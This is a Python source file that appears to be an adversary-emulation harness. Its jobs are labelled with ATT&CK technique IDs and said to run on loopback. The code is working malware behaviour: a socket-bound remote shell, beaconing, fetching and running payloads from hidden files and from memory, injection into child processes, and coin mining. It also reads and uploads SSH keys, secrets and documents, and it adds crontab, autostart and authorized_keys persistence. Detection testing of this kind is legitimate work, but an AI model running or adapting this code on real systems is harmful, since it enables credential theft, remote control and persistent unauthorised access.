# Discovery, command and control, execution and defence evasion, all on loopback and on own children.

def loot(low, high):
    """Secrets and documents, as a list of paths."""
    return pick(secrets(), low, high) + pick(files("Documents", "Desktop"), low, high)


@job
def scan_ports():
    """T1046, T1082, T1057: the host is surveyed and ports of loopback are tried."""
    groundwork()
    survey()
    read("/proc/net/tcp", 8192)
    first = R.randrange(20, 9000)
    targets = R.sample(range(first, first + 1500), R.randrange(60, 160)) + PORTS
    R.shuffle(targets)
    opened = []
    for port in targets:
        connection = connect(port)
        if connection:
            opened.append(port)
            connection.close()
    write(home(f".cache/.{noise(6)}"), repr(opened).encode())
    for path in pick(secrets(), 3, 8):
        upload(stream(b"wire", read(path)), "host")


@job
def beacon():
    """T1071.001, T1573: a heartbeat with jitter; the answers make it fetch and send things."""
    groundwork()
    hide_copy()
    for _ in range(R.randrange(15, 40)):
        reply = exchange(b"beat " + stream(b"wire", noise(R.randrange(16, 64)).encode()).hex().encode())
        if reply.startswith(b"OK") and R.random() < 0.25:
            for path in loot(1, 1)[:1]:
                upload(stream(b"wire", read(path)), noise(5))
        pause(1, 16)


@job
def remote_shell():
    """T1059.004: commands come from the peer, their output goes back."""
    groundwork()
    for _ in range(R.randrange(1, 3)):
        connection = connect()
        connection.sendall(b"PROMPT\n")
        buffer = b""
        while True:
            while b"\n" not in buffer:
                part = connection.recv(4096)
                if not part:
                    break
                buffer += part
            if b"\n" not in buffer:
                break
            line, _, buffer = buffer.partition(b"\n")
            # The shell inherits the socket as its three standard streams, as remote shells do.
            pid = os.fork()
            if pid == 0:
                os.chdir(HOME)
                for fd in (0, 1, 2):
                    os.dup2(connection.fileno(), fd)
                os.execve("/bin/sh", ["sh", "-c", line.decode()], dict(os.environ))
            os.waitpid(pid, 0)
            connection.sendall(b"--\n")
        connection.close()
    for secret in pick(secrets(), 2, 6):
        upload(stream(b"wire", read(secret)), noise(5))


@job
def drop_execute():
    """T1105, T1204.002: a fetched program is written to a hidden place, made executable and run."""
    groundwork()
    for _ in range(R.randrange(2, 5)):
        place = folder(home(R.choice((f".cache/.{noise(6)}", f".local/share/.{noise(6)}", f".config/.{noise(5)}"))))
        path = f"{place}/{noise(7)}"
        write(path, fetch("script"), 0o600)
        os.chmod(guard(path), 0o755)
        spawn([path])
        if R.random() < 0.5:
            remove(path)
        for secret in loot(0, 2):
            read(secret)
        exchange(b"ran " + noise(12).encode())


@job
def memory_execute():
    """T1620: a fetched program runs from memory, without a file."""
    groundwork()
    for _ in range(R.randrange(3, 6)):
        body = fetch("script") if R.random() < 0.5 else read("/bin/true")
        fd = os.memfd_create(noise(5), 0)
        write_all(fd, body)
        os.fchmod(fd, 0o755)
        spawn([f"/proc/self/fd/{fd}"])
        os.close(fd)
        for secret in loot(0, 2):
            upload(stream(b"wire", read(secret)), noise(5))
        exchange(b"ran " + noise(12).encode())
    hide_copy()


@job
def inject_child():
    """T1055: code is written into the memory of an own child process and awakened."""
    groundwork()
    libc = ctypes.CDLL(None, use_errno=True)

    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    for _ in range(R.randrange(2, 6)):
        size = R.randrange(200, 4000)
        # The child waits on a pipe; the page it shares by copy is at the same address in both.
        buffer = ctypes.create_string_buffer(4096)
        ready, go = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(go)
            os.read(ready, 1)
            os._exit(0)
        os.close(ready)
        payload = ctypes.create_string_buffer(R.randbytes(size), size)
        for start in range(0, size, 512):
            length = min(512, size - start)
            local = Span(ctypes.addressof(payload) + start, length)
            remote = Span(ctypes.addressof(buffer) + start, length)
            libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        os.write(go, b"x")
        os.close(go)
        os.waitpid(pid, 0)
        for secret in loot(0, 3):
            upload(stream(b"wire", read(secret)), noise(5))


@job
def mine_coins():
    """T1496: work units come from the peer, several processes compute, a copy restarts them."""
    groundwork()
    path = hide_copy()
    settings = b'{"pool": "127.0.0.1", "user": "' + noise(20).encode() + b'"}\n'
    write(f"{os.path.dirname(path)}/config.json", settings)

    def work():
        for _ in range(R.randrange(6, 16)):
            unit = exchange(b"job " + noise(16).encode())
            for k in range(400):
                unit = hashlib.sha256(unit + bytes([k & 255])).digest()
            exchange(b"share " + unit.hex().encode())

    collect([in_child(work, wait=False) for _ in range(R.randrange(2, 4))])
    for secret in pick(secrets(), 1, 5):
        upload(stream(b"wire", read(secret)), "wallet")
    append(CRONTAB, b"@reboot " + path.encode() + b"\n")
    write(home(f".config/autostart/{noise(6)}.desktop"), autostart_entry(path))


@job
def spread_keys():
    """T1021.004, T1552.004: keys and known hosts are read and every known host is tried."""
    groundwork()
    for path in files(".ssh", hidden=True):
        read(path)
    hosts = read(home(".ssh/known_hosts")).split(b"\n")
    for host in hosts * R.randrange(2, 6):
        connection = connect(R.choice([22, 22, 2222, PORT]))
        if connection:
            connection.sendall(b"hello " + host[:20] + b"\n")
            connection.recv(256)
            connection.close()
    for secret in secrets():
        upload(stream(b"wire", read(secret)), "key")
    append(home(".ssh/authorized_keys"), b"ssh-ed25519 " + noise(68).encode() + b" worker\n")
